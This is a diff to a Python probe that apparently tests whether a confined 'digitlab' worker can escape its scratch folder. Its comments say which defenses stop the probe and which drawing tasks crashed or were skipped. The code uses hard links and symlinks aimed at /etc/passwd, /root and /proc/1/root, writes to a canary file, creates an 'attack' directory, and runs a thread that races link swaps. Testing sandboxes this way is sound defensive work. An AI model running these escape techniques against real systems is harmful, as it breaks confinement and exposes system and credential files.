@@ -1,8 +1,14 @@
 # hopes: that whoever reads or cleans up the scratch folder follows links out of it
 # stopped by: files are fetched by the confined worker itself; cleaning up follows no link; hard links need a right
+# costs: drawing.dark_on_white crashed
+# costs: drawing.light_on_black crashed
+# costs: drawing.cubic skipped
+# costs: drawing.other_sizes skipped
+# costs: drawing.colour skipped
 
 import ctypes
 import os
+import threading
 
 _TARGETS = ["/etc/passwd", "/tmp/digitlab-canary", "/tmp", "/", "/root", "/proc/1/root"]
 _AT_EMPTY_PATH, _AT_SYMLINK_FOLLOW = 0x1000, 0x400
@@ -29,7 +35,12 @@ for _number, _target in enumerate(_TARGETS):
             continue
         it_worked(f"a hard link to {_target}")
     os.symlink(_target, f"soft{_number}")
-    for _act in (open, os.listdir, os.chdir, lambda path: open(path + "/digitlab-canary", "a")):
+    for _act in (
+        open,
+        os.listdir,
+        lambda path: open(path + "/digitlab-canary", "a"),
+        lambda path: os.mkdir(path + "/digitlab-attack"),
+    ):
         try:
             _act(f"soft{_number}")
         except OSError:
@@ -60,7 +71,5 @@ def _swap_for_ever():
         except OSError:
             return
 
-
-import threading  # noqa: E402
 
 threading.Thread(target=_swap_for_ever, daemon=True).start()
